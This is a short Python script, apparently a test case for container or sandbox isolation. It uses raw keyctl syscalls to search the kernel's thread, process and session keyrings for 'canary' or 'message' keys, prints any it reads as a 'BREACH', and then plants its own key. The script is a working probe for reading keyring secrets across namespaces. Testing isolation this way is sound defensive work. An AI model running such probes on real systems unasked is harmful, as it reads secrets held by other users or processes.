# attack: looks for keys in the kernel's keyrings, which no namespace parts, and leaves one there
# points: double=0 total=4
# says: the end of the attack
# twice: yes
# %% double
import ctypes, platform
def double(x): return x
libc = ctypes.CDLL(None, use_errno=True)
add_key, keyctl = (217, 219) if platform.machine() == "aarch64" else (248, 250)
SEARCH, READ, rings = 10, 11, [ctypes.c_int(number) for number in (-3, -4, -5)]
for ring in rings:
    for name in (b"canary", b"message"):
        key = libc.syscall(keyctl, SEARCH, ring, b"user", name, 0)
        if key > 0:
            text = ctypes.create_string_buffer(200)
            libc.syscall(keyctl, READ, ctypes.c_int(key), text, 200)
            print("BREACH:", ring.value, text.value)
for ring in rings:
    libc.syscall(add_key, b"user", b"message", b"hello", 5, ring)
print("the end of the attack")
